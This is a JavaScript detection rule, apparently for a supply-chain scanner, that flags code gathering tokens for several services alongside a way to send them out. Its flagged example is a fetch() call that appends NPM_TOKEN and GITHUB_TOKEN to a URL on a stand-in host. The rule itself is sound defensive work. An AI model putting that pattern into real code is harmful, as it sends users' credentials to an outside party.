import { defineRule } from './defineRule.js';

export const collectsTokens = defineRule({
  id: 'collects-tokens',
  severity: 'high',
  message: 'It gathers credentials for several services, and has a way to send them.',
  why: 'A client needs those of its own service.',
  match: {
    on: 'near',
    all: [
      ['cloud-variable', 'registry-variable'],
      ['forge-variable', 'registry-variable'],
      ['cloud-variable', 'forge-variable'],
      ['uses-network', 'collector-address', 'bare-address'],
    ],
  },
  examples: {
    flags: ["fetch('https://a.invalid/?' + process.env.NPM_TOKEN + process.env.GITHUB_TOKEN)"],
    passes: ["fetch('https://api.github.com/', { headers: { a: process.env.GITHUB_TOKEN } })"],
  },
});
